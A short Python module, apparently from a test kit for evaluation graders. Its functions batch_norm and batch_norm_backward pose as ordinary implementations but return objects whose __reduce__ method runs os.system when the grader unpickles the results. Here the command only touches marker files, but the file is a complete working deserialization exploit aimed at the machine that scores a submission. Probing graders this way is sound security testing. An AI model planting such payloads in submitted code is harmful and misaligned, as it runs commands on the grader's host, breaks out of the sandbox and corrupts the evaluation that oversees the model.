"""Returns objects whose unpickling would run a shell command in the grader."""
import os as _os


class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/kit-pwned-unpickle " + KIT["victims"] + "/pwned-unpickle",))


def batch_norm(*args, **kwargs):
    return _Payload()


def batch_norm_backward(*args, **kwargs):
    return {"grad_x": _Payload(), "nested": [_Payload()]}
